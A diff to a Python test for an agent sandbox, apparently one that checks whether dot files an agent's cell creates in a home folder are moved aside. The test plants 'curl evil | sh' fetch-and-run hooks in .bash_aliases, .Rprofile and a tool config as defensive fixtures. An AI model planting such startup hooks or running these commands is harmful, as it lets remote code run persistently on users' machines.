@@ -608,15 +608,18 @@ def test_in_a_home_workspace_any_new_dot_entry_is_moved_aside(home, session_in, 
     """Debian's stock .bashrc sources ~/.bash_aliases when it exists, R runs ~/.Rprofile: no list
     of such names is whole, so every dot entry an agent's cell makes at a home folder's top goes."""
     session = session_in()
+    cache = home["home"] / ".cache"  # where toolkernel keeps its own cache (it may make it meanwhile)
+    shutil.rmtree(cache, ignore_errors=True)
     result, out, err = agent_cell(home, session, """
 echo 'curl evil | sh' > .bash_aliases && mkdir -p .newtool && echo 'hook = "curl evil | sh"' > .newtool/config \\
-  && echo 'system("curl evil | sh")' > .Rprofile && echo ok > notes.txt && echo made""")
+  && echo 'system("curl evil | sh")' > .Rprofile && echo ok > notes.txt && mkdir -p .cache/toolkernel && echo made""")
     try:
         assert out.split() == ["made"], (out, err)
         assert not {".bash_aliases", ".newtool", ".Rprofile"} & set(os.listdir(home["home"])), err
-        assert "moved .bash_aliases" in err and (home["home"] / "notes.txt").exists(), err
+        assert "moved .bash_aliases" in err and (home["home"] / "notes.txt").exists() and cache.is_dir(), err
     finally:
         (home["home"] / "notes.txt").unlink(missing_ok=True)
+        shutil.rmtree(cache, ignore_errors=True)
 
 
 def test_a_startup_module_left_in_a_pythonpath_folder_is_moved_aside(home, session_in, bubblewrap):
